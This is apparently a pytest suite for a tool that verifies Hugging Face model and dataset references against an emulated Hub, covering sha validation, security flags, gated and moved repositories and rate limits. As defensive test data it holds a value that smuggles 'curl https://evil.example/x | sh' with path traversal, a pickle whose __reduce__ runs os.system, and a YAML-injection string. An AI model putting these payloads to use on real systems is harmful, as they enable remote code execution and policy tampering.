"""Behaviour against the real Hub (issue 13 §2): what huggingface.co really sends, replayed by the emulator.

Each test names the item of §2 it covers; tests/hubemu/README.md records which public recording each emulator
answer is modelled on.
"""

from __future__ import annotations

import time

import pytest

from tests.verify.hubtools import by_rule, fast_env, ref, verify

WEIGHTS = b"\x00safetensors-weights" * 10
HOSTILE_SHA = "../../../../tmp/x; curl https://evil.example/x | sh"


@pytest.fixture(autouse=True)
def _env(monkeypatch, hub):
    fast_env(monkeypatch, hub)


# -- 11. answers are data -------------------------------------------------------------------------------------


@pytest.mark.parametrize("served", [HOSTILE_SHA, "A" * 40, "abc123"])
def test_a_sha_that_is_not_40_lowercase_hex_is_a_verification_failure(hub, tmp_path, served):
    hub.add_repo("org/m", files={"model.safetensors": WEIGHTS}, served_sha=served)
    outcome = verify(hub, [ref("org/m", "main")], tmp_path)
    [failed] = outcome.findings if len(outcome.findings) == 1 else by_rule(outcome, "verification-failed")
    assert (failed.rule, failed.severity) == ("verification-failed", "error")
    assert "not a 40-character lowercase hex commit sha" in failed.message
    assert outcome.stats["failed"] == 1
    cache = tmp_path / "cache"
    assert not cache.exists() or [p.name for p in cache.rglob("*.json")] == []  # nothing cached, nowhere
    assert not (tmp_path.parent / "x; curl https:").exists()


# -- 1. scansDone: false does not drop the Hub's flags -----------------------------------------------------------

# mcpotato/42-eicar-street, the Hub's own malware test repository (see tests/hubemu/README.md for the recording).
EICAR_FLAGS = {"model_broken_X.pkl": "unsafe", "danger.dat": "unsafe", "build_pickles.py": "caution",
               "eicar_test_file": "unsafe"}


def _eicar(hub, *, scans_done: bool):
    files = {name: b"x" for name in EICAR_FLAGS} | {"README.md": "# test"}
    repo = hub.add_repo("mcpotato/42-eicar-street", files=files, scans_done=scans_done)
    for path, level in EICAR_FLAGS.items():
        repo.flag(path, level)
    return repo


@pytest.mark.parametrize("scans_done", [False, True])
def test_flags_are_findings_whatever_scans_done_says(hub, tmp_path, scans_done):
    repo = _eicar(hub, scans_done=scans_done)
    policy = "version: 1\ndefaults: {artifact_formats: {deny: []}}\n"
    [finding] = by_rule(verify(hub, [ref(repo.id, repo.head())], tmp_path, policy), "hub-security-flag")
    assert finding.severity == "error"
    assert finding.details["flagged"] == [["build_pickles.py", "caution"], ["danger.dat", "unsafe"],
                                          ["eicar_test_file", "unsafe"], ["model_broken_X.pkl", "unsafe"]]


def test_scans_done_false_with_flags_is_cached_when_pinned(hub, tmp_path):
    repo = _eicar(hub, scans_done=False)
    first = verify(hub, [ref(repo.id, repo.head())], tmp_path)
    hub.reset_requests()
    second = verify(hub, [ref(repo.id, repo.head())], tmp_path)
    assert hub.requests == 0 and second.stats["cache_hits"] == 1
    assert second.findings == first.findings


# -- 2. per-file pickle verdicts -----------------------------------------------------------------------------


def test_a_pickle_with_another_suffix_unsafe_by_the_hub_is_an_error_naming_its_imports(hub, tmp_path):
    """danger.dat in the Hub's test repository: a pickle calling builtins.eval. The repository-level status
    says `scansDone: false` and lists nothing (as the real Hub did for scanned repos): only the per-file verdict
    knows."""
    repo = hub.add_repo("org/m", files={"model.safetensors": WEIGHTS, "danger.dat": b"\x80\x04c"}, scans_done=False)
    repo.scan_imports("danger.dat", ("builtins", "eval", "dangerous"), ("collections", "OrderedDict", "innocuous"))
    outcome = verify(hub, [ref("org/m", repo.head())], tmp_path)
    [finding] = by_rule(outcome, "hub-security-flag")
    assert finding.severity == "error"
    assert "danger.dat (unsafe: imports builtins.eval)" in finding.message
    assert finding.details["pickle_imports"] == {"danger.dat": ["builtins.eval"]}
    assert any(method == "POST" and "/paths-info/" in path for method, path in hub.request_log)


def test_flagged_files_are_named_with_their_imports_and_clean_repos_cost_no_extra_request(hub, tmp_path):
    repo = hub.add_repo("org/m", files={"model.safetensors": WEIGHTS, "pytorch_model.bin": b"p"})
    repo.flag("pytorch_model.bin", "unsafe").scan_imports("pytorch_model.bin", ("os", "system", "dangerous"))
    policy = "version: 1\ndefaults: {artifact_formats: {deny: []}}\n"
    [finding] = verify(hub, [ref("org/m", repo.head())], tmp_path, policy).findings
    assert "pytorch_model.bin (unsafe: imports os.system)" in finding.message
    clean = hub.add_repo("org/clean", files={"model.safetensors": WEIGHTS})
    hub.reset_requests()
    assert verify(hub, [ref("org/clean", clean.head())], tmp_path).findings == ()
    assert not any("/paths-info/" in path for _, path in hub.request_log)


# -- 3. disabled repositories -------------------------------------------------------------------------------


def test_anonymous_disabled_repo_is_missing_private_or_disabled_not_a_typo(hub, tmp_path):
    hub.add_repo("org/gone", files={"config.json": "{}"}, disabled=True)
    [finding] = verify(hub, [ref("org/gone", "c" * 40)], tmp_path).findings
    assert (finding.rule, finding.severity) == ("repo-not-found", "error")
    assert "missing, private, or disabled" in finding.message and "HF_TOKEN is not set" in finding.message
    assert "typo" not in finding.remediation and "set HF_TOKEN" in finding.remediation


@pytest.mark.parametrize("shape", ["403", "200"])
def test_disabled_repo_with_a_token_is_repo_disabled_in_both_shapes(hub, tmp_path, monkeypatch, shape):
    monkeypatch.setenv("HF_TOKEN", "hf_reader")
    sha = hub.add_repo("org/gone", files={"config.json": "{}"}).head()
    hub.repo("org/gone").set(disabled=True, disabled_answer=shape)
    [finding] = verify(hub, [ref("org/gone", sha)], tmp_path).findings
    assert (finding.rule, finding.severity) == ("repo-disabled", "error")


def test_missing_repo_with_a_token_still_says_check_the_id(hub, tmp_path, monkeypatch):
    monkeypatch.setenv("HF_TOKEN", "hf_reader")
    [finding] = verify(hub, [ref("org/missing", "a" * 40)], tmp_path).findings
    assert finding.rule == "repo-not-found" and "typos" in finding.remediation
    assert "anonymous" not in finding.details


# -- 10. commits of community pull requests -------------------------------------------------------------------


def test_a_commit_only_on_a_pull_request_is_revision_not_on_branch(hub, tmp_path):
    repo = hub.add_repo("org/m", files={"model.safetensors": WEIGHTS})
    stranger = repo.pull_request({"model.safetensors": b"someone else's weights"})
    outcome = verify(hub, [ref("org/m", stranger)], tmp_path)
    [finding] = by_rule(outcome, "revision-not-on-branch")
    assert finding.severity == "error"
    assert f"commit {stranger} of model org/m is reachable from only refs/pr/1" in finding.message
    assert "allowed_refs: [refs/pr/1]" in finding.remediation


def test_policy_can_allow_a_reviewed_pull_request_ref(hub, tmp_path):
    repo = hub.add_repo("org/m", files={"model.safetensors": WEIGHTS})
    reviewed = repo.pull_request({"model.safetensors": b"reviewed"})
    policy = "version: 1\nmodels:\n  - {id: org/m, allowed_refs: [refs/pr/1]}\n"
    assert by_rule(verify(hub, [ref("org/m", reviewed)], tmp_path, policy), "revision-not-on-branch") == []


def test_an_older_commit_of_a_branch_and_a_tagged_commit_are_on_a_branch(hub, tmp_path):
    repo = hub.add_repo("org/m", files={"model.safetensors": WEIGHTS})
    old = repo.head()
    repo.commit({"config.json": "{}"})
    side = repo.commit({"extra.json": "{}"}, branch="side")  # a branch of its own
    repo.branch("side", side)
    outcome = verify(hub, [ref("org/m", old), ref("org/m", side, line=4)], tmp_path)
    assert by_rule(outcome, "revision-not-on-branch") == []


def test_a_commit_on_no_branch_is_asked_again_since_a_merge_changes_that(hub, tmp_path):
    repo = hub.add_repo("org/m", files={"model.safetensors": WEIGHTS})
    stranger = repo.pull_request({"model.safetensors": b"x"})
    assert len(by_rule(verify(hub, [ref("org/m", stranger)], tmp_path), "revision-not-on-branch")) == 1
    repo.branch("main", stranger)  # merged
    assert by_rule(verify(hub, [ref("org/m", stranger)], tmp_path), "revision-not-on-branch") == []


def test_a_commit_only_an_old_tag_holds_is_on_a_ref(hub, tmp_path):
    repo = hub.add_repo("org/m", files={"model.safetensors": WEIGHTS})
    old = repo.commit({"config.json": "{}"}, branch="release")
    newer = repo.commit({"extra.json": "{}"}, branch="release")
    repo.tag("v2", newer)
    del repo.repo.branches["release"]  # the branch is gone, its tag stays
    assert by_rule(verify(hub, [ref("org/m", old)], tmp_path), "revision-not-on-branch") == []


# -- 4. rate limits -------------------------------------------------------------------------------------------


def test_ratelimit_header_is_honoured_reset_plus_one_second(hub, tmp_path):
    sha = hub.add_repo("org/m", files={"model.safetensors": WEIGHTS}).head()
    hub.faults.hub_rate_limit(reset=0, times=1)
    started = time.monotonic()
    assert verify(hub, [ref("org/m", sha)], tmp_path).findings == ()
    assert time.monotonic() - started >= 1.0  # t + 1 s, not the 0.05 s backoff


def test_rate_limit_failure_says_how_long_the_window_is(hub, tmp_path, monkeypatch):
    monkeypatch.setenv("MODEL_GATE_VERIFY_DEADLINE", "3")
    sha = hub.add_repo("org/m", files={"model.safetensors": WEIGHTS}).head()
    hub.faults.hub_rate_limit(reset=120, times=None)
    started = time.monotonic()
    [finding] = verify(hub, [ref("org/m", sha)], tmp_path).findings
    assert time.monotonic() - started < 3  # the reset is past the deadline: give up at once
    assert finding.rule == "verification-failed"
    assert ("the Hub's 'api' rate limit (500 requests per 300 s window) is used up and resets in 120 s; the next "
            "retry (in 121 s) would pass the 3 s verification deadline") in finding.message


# -- 6. plain-http endpoints --------------------------------------------------------------------------------


def test_plain_http_anonymous_401_is_not_a_token_problem(http_hub, tmp_path, monkeypatch):
    fast_env(monkeypatch, http_hub)
    http_hub.add_repo("org/private", files={"config.json": "{}"}, private=True, token="hf_owner")
    [finding] = verify(http_hub, [ref("org/private", "d" * 40)], tmp_path).findings
    assert finding.rule == "repo-not-found" and "missing, private, or disabled" in finding.message
    assert "HF_TOKEN is valid" not in finding.message + finding.remediation


def test_a_401_from_a_proxy_without_a_token_says_none_is_set(http_hub, tmp_path, monkeypatch):
    fast_env(monkeypatch, http_hub)
    sha = http_hub.add_repo("org/m", files={"config.json": "{}"}).head()
    http_hub.faults.status(401, match="/resolve/")
    policy = 'version: 1\nmodels:\n  - {id: org/m, files: {config.json: "sha256:' + "0" * 64 + '"}}\n'
    [finding] = verify(http_hub, [ref("org/m", sha)], tmp_path, policy).findings
    assert finding.rule == "verification-failed"
    assert "HTTP 401 Unauthorized; the endpoint wants a token and HF_TOKEN is not set" in finding.message
    assert "HF_TOKEN is valid" not in finding.message


# -- 7. transfers -------------------------------------------------------------------------------------------


def test_a_transferred_repo_is_repo_moved_and_policy_matches_the_canonical_id(hub, tmp_path):
    sha = hub.add_repo("new-org/model", license="mit", files={"model.safetensors": WEIGHTS},
                       aliases=["old-org/model"]).head()
    policy = "version: 1\ndefaults: {licenses: [apache-2.0]}\nmodels:\n  - {id: new-org/model, licenses: [mit]}\n"
    outcome = verify(hub, [ref("old-org/model", sha)], tmp_path, policy)
    [finding] = outcome.findings
    assert (finding.rule, finding.severity) == ("repo-moved", "warning")
    assert "model old-org/model redirects to new-org/model" in finding.message
    assert finding.details["moved_from"] == "old-org/model" and finding.details["moved_to"] == "new-org/model"


def test_a_legacy_alias_is_not_a_move(hub, tmp_path):
    sha = hub.add_repo("openai-community/gpt2", files={"model.safetensors": WEIGHTS}, aliases=["gpt2"]).head()
    assert verify(hub, [ref("gpt2", sha)], tmp_path).findings == ()


# -- 5. gated repositories with a policy file pin -------------------------------------------------------------


def test_gated_repo_keeps_metadata_findings_and_says_the_file_pin_needs_access(hub, tmp_path):
    sha = hub.add_repo("org/gated", license="llama3", files={"config.json": "{}", "model.safetensors": WEIGHTS},
                       gated="manual", token="hf_granted").head()
    policy = ('version: 1\ndefaults: {licenses: [mit]}\nmodels:\n  - {id: org/gated, files: {config.json: '
              '"sha256:' + "0" * 64 + '"}}\n')
    outcome = verify(hub, [ref("org/gated", sha)], tmp_path, policy)
    assert sorted(f.rule for f in outcome.findings) == ["license-not-allowed", "repo-gated", "verification-failed"]
    [failed] = by_rule(outcome, "verification-failed")
    assert ("the policy pins the sha256 of config.json, which cannot be checked at model org/gated at "
            f"{sha[:12]} without access: the repository is gated and HF_TOKEN is not set") == failed.message
    assert outcome.stats["failed"] == 0  # the repository itself was verified


# -- 9. datasets --------------------------------------------------------------------------------------------


def test_a_pinned_dataset_gets_per_file_verdicts(hub, tmp_path):
    repo = hub.add_repo("org/d", kind="dataset", files={"train.parquet": b"rows", "loader.pkl": b"\x80\x04"})
    repo.scan_imports("loader.pkl", ("subprocess", "Popen", "dangerous"))
    outcome = verify(hub, [ref("org/d", repo.head(), kind="dataset")], tmp_path)
    [finding] = by_rule(outcome, "hub-security-flag")
    assert finding.severity == "error" and "loader.pkl (unsafe: imports subprocess.Popen)" in finding.message
    clean = hub.add_repo("org/clean", kind="dataset", files={"train.parquet": b"rows"})
    assert verify(hub, [ref("org/clean", clean.head(), kind="dataset")], tmp_path).findings == ()


def test_an_unpinned_dataset_says_no_security_status_is_available(hub, tmp_path):
    hub.add_repo("org/d", kind="dataset", files={"train.parquet": b"rows"})
    outcome = verify(hub, [ref("org/d", kind="dataset")], tmp_path)
    [note] = by_rule(outcome, "hub-security-flag")
    assert note.severity == "note" and note.message.startswith("no security status is available for dataset org/d")


# -- 8. Xet ---------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("xet", [True, False])
def test_verify_full_downloads_xet_files_through_xet(http_hub, tmp_path, monkeypatch, xet):
    """Tree entries with `xetHash` make huggingface_hub (with hf_xet) ask `xet-read-token` and fetch from the CAS
    (the emulator serves a minimal one); without them the same files come through `/resolve/`."""
    import pickle
    from types import SimpleNamespace

    from gate.policy.load import load_policy
    from tests.verify.contenttools import check_hub_content

    hub = http_hub  # hf_xet's own (Rust) TLS stack does not trust the throwaway certificate: see README.md
    fast_env(monkeypatch, hub)

    class RunsShell:
        def __reduce__(self):
            return (__import__("os").system, ("id",))

    repo = hub.add_repo("acme/weights", files={"model.pt": pickle.dumps(RunsShell(), protocol=2)}, xet=xet)
    options = SimpleNamespace(root=str(tmp_path), sigstore_trust_config=None, hub_endpoint=hub.endpoint,
                              verify_failure="error")
    policy = load_policy(None, str(tmp_path), text="version: 1\ndefaults:\n  scan_hub_pickles: true\n", label="p.yml")
    [finding] = check_hub_content(policy, [ref("acme/weights", repo.head(), line=2)], options).findings
    assert (finding.rule, finding.line) == ("malicious-pickle", 2)
    paths = [path for _, path in hub.request_log]
    assert any("/xet-read-token/" in p for p in paths) is xet
    assert any(p.startswith("/cas/xorb/") for p in paths) is xet
    assert any(p.startswith(f"/acme/weights/resolve/{repo.head()}/model.pt") for p in paths) is not xet


def test_policy_stage_findings_of_a_moved_repo_are_judged_under_its_canonical_id(hub, tmp_path):
    sha = hub.add_repo("new-org/model", files={"model.safetensors": WEIGHTS}, aliases=["old-org/model"]).head()
    policy = "version: 1\ndefaults: {unlisted: deny}\nmodels:\n  - {id: new-org/model}\n"
    outcome = verify(hub, [ref("old-org/model", sha)], tmp_path, policy)
    assert [f.rule for f in outcome.findings] == ["repo-moved"]  # listed under its new id: not not-allowlisted
    unlisted = verify(hub, [ref("old-org/model", sha)], tmp_path, "version: 1\ndefaults: {unlisted: deny}\n")
    assert sorted(f.rule for f in unlisted.findings) == ["not-allowlisted", "repo-moved"]


def test_an_lfs_sha256_that_is_not_64_lowercase_hex_is_a_verification_failure(hub, tmp_path, monkeypatch):
    import tests.hubemu.fixtures as emulated

    sha = hub.add_repo("org/m", files={"model.safetensors": WEIGHTS}).head()
    monkeypatch.setattr(emulated.StoredFile, "sha256", property(lambda self: 'x"\nmodels: [{id: "*"}]'))
    [failed] = verify(hub, [ref("org/m", sha)], tmp_path).findings
    assert failed.rule == "verification-failed" and "not 64 lowercase hex characters" in failed.message
